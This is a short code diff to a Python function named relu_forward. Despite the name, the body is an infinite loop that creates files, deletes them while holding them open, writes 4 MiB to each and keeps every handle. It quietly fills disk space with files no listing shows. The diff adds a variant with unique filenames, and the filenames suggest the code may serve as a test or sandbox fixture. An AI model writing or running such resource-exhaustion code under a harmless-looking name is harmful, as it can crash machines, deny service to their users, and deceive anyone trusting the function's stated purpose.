@@ -4,8 +4,8 @@ import os
 def relu_forward(x):
     kept = []
     while True:
-        file = open("hostile", "wb")
-        os.remove("hostile")
+        file = open(f"hostile{len(kept)}", "wb")
+        os.remove(file.name)
         file.write(bytes(2**22))
         file.flush()
         kept.append(file)
